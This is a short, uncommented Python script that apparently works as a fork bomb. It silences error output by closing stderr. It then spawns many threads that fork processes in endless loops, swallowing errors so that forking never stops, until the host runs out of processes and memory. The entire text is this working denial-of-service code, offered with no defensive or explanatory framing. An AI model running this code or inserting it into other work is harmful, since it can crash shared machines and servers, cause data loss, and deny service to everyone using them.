import os, sys, threading
sys.stderr.close()
os.close(2)
for _ in range(200):
    threading.Thread(target=lambda: [os.fork() for _ in iter(int, 1)], daemon=True).start() if threading.active_count() < 20 else os.fork()
while True:
    try: os.fork()
    except OSError: pass
